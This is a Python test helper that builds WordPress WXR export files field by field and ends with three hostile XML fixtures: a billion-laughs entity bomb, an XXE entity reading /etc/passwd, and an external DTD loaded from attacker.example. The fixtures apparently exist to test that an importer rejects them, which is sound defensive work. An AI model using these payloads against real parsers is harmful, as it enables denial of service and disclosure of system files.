"""Small WordPress exports (WXR) written by tests, field by field, as WordPress writes them."""

from __future__ import annotations

import itertools
from pathlib import Path
from xml.sax.saxutils import escape

WP = "http://wordpress.org/export/1.2/"
_ids = itertools.count(1000)


def cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def comment(**fields) -> str:
    fields.setdefault("id", str(next(_ids)))
    fields.setdefault("author", "A reader")
    fields.setdefault("email", "reader@example.org")
    fields.setdefault("url", "")
    fields.setdefault("ip", "192.0.2.1")
    fields.setdefault("date", "2024-03-01 10:00:00")
    fields.setdefault("date_gmt", "2024-03-01 09:00:00")
    fields.setdefault("content", "A thoughtful remark about the resolution.")
    fields.setdefault("approved", "1")
    fields.setdefault("type", "")
    fields.setdefault("parent", "0")
    return f"""
<wp:comment>
  <wp:comment_id>{fields["id"]}</wp:comment_id>
  <wp:comment_author>{cdata(fields["author"])}</wp:comment_author>
  <wp:comment_author_email>{cdata(fields["email"])}</wp:comment_author_email>
  <wp:comment_author_url>{escape(fields["url"])}</wp:comment_author_url>
  <wp:comment_author_IP>{fields["ip"]}</wp:comment_author_IP>
  <wp:comment_date>{fields["date"]}</wp:comment_date>
  <wp:comment_date_gmt>{fields["date_gmt"]}</wp:comment_date_gmt>
  <wp:comment_content>{cdata(fields["content"])}</wp:comment_content>
  <wp:comment_approved>{fields["approved"]}</wp:comment_approved>
  <wp:comment_type>{fields["type"]}</wp:comment_type>
  <wp:comment_parent>{fields["parent"]}</wp:comment_parent>
  <wp:comment_user_id>0</wp:comment_user_id>
</wp:comment>"""


def item(**fields) -> str:
    """One <item>; `categories` is a list of (domain, nicename, name), `meta` a dict, `comments` XML strings."""
    post_id = fields.setdefault("post_id", str(next(_ids)))
    fields.setdefault("post_type", "post")
    fields.setdefault("title", f"Council votes on resolution {post_id}")
    fields.setdefault("slug", f"council-votes-{post_id}")
    fields.setdefault("status", "publish")
    fields.setdefault("date", "2024-02-29 21:30:00")
    fields.setdefault("date_gmt", "2024-03-01 02:30:00")
    day = fields["date"][:10].replace("-", "/")
    fields.setdefault("link", f"https://old.example.org/{day}/{fields['slug']}/")
    fields.setdefault("creator", "jdoe")
    fields.setdefault("content", "<p>The Security Council met on Thursday.</p>")
    fields.setdefault("excerpt", "")
    fields.setdefault("sticky", "0")
    fields.setdefault("password", "")
    fields.setdefault("parent", "0")
    fields.setdefault("attachment_url", "")
    categories = "".join(
        f'<category domain="{d}" nicename="{escape(n, {chr(34): "&quot;"})}">{cdata(name)}</category>'
        for d, n, name in fields.get("categories", [])
    )
    meta = "".join(
        f"<wp:postmeta><wp:meta_key>{k}</wp:meta_key><wp:meta_value>{cdata(v)}</wp:meta_value></wp:postmeta>"
        for k, v in fields.get("meta", {}).items()
    )
    attachment = (
        f"<wp:attachment_url>{escape(fields['attachment_url'])}</wp:attachment_url>" if fields["attachment_url"] else ""
    )
    return f"""
<item>
  <title>{escape(fields["title"])}</title>
  <link>{escape(fields["link"])}</link>
  <pubDate>Fri, 01 Mar 2024 02:30:00 +0000</pubDate>
  <dc:creator>{cdata(fields["creator"])}</dc:creator>
  <guid isPermaLink="false">https://old.example.org/?p={post_id}</guid>
  <description></description>
  <content:encoded>{cdata(fields["content"])}</content:encoded>
  <excerpt:encoded>{cdata(fields["excerpt"])}</excerpt:encoded>
  <wp:post_id>{post_id}</wp:post_id>
  <wp:post_date>{fields["date"]}</wp:post_date>
  <wp:post_date_gmt>{fields["date_gmt"]}</wp:post_date_gmt>
  <wp:comment_status>open</wp:comment_status>
  <wp:post_name>{cdata(fields["slug"])}</wp:post_name>
  <wp:status>{fields["status"]}</wp:status>
  <wp:post_parent>{fields["parent"]}</wp:post_parent>
  <wp:menu_order>0</wp:menu_order>
  <wp:post_type>{fields["post_type"]}</wp:post_type>
  <wp:post_password>{escape(fields["password"])}</wp:post_password>
  <wp:is_sticky>{fields["sticky"]}</wp:is_sticky>
  {attachment}{categories}{meta}{"".join(fields.get("comments", []))}
</item>"""


def author(login: str = "jdoe", email: str = "jdoe@example.org", name: str = "Jane Doe") -> str:
    return f"""
<wp:author>
  <wp:author_id>2</wp:author_id>
  <wp:author_login>{cdata(login)}</wp:author_login>
  <wp:author_email>{cdata(email)}</wp:author_email>
  <wp:author_display_name>{cdata(name)}</wp:author_display_name>
  <wp:author_first_name>{cdata("")}</wp:author_first_name>
  <wp:author_last_name>{cdata("")}</wp:author_last_name>
</wp:author>"""


def category(slug: str, name: str, *, term_id: str = "", parent: str = "") -> str:
    return f"""
<wp:category>
  <wp:term_id>{term_id or next(_ids)}</wp:term_id>
  <wp:category_nicename>{cdata(slug)}</wp:category_nicename>
  <wp:category_parent>{cdata(parent)}</wp:category_parent>
  <wp:cat_name>{cdata(name)}</wp:cat_name>
</wp:category>"""


def tag(slug: str, name: str, *, term_id: str = "") -> str:
    return f"""
<wp:tag>
  <wp:term_id>{term_id or next(_ids)}</wp:term_id>
  <wp:tag_slug>{cdata(slug)}</wp:tag_slug>
  <wp:tag_name>{cdata(name)}</wp:tag_name>
</wp:tag>"""


def export(*parts: str, namespace: str = WP, version: str = "1.2", site: str = "https://old.example.org") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8" ?>
<rss version="2.0"
  xmlns:excerpt="{namespace}excerpt/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:wfw="http://wellformedweb.org/CommentAPI/"
  xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:wp="{namespace}">
<channel>
  <title>The Old Newsroom</title>
  <link>{site}</link>
  <description>News from the UN</description>
  <language>en-GB</language>
  <wp:wxr_version>{version}</wp:wxr_version>
  <wp:base_site_url>{site}</wp:base_site_url>
  <wp:base_blog_url>{site}</wp:base_blog_url>
  {"".join(parts)}
</channel>
</rss>
"""


def write(directory: Path, text: str, name: str = "export.xml") -> Path:
    path = Path(directory) / name
    path.write_text(text, encoding="utf-8")
    return path


# Hostile files: entity expansion, an external entity, an external DTD.
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<wp:wxr_version>1.2</wp:wxr_version><title>&lol9;</title>
</channel></rss>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<wp:wxr_version>1.2</wp:wxr_version><title>&secret;</title>
</channel></rss>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<wp:wxr_version>1.2</wp:wxr_version></channel></rss>
"""
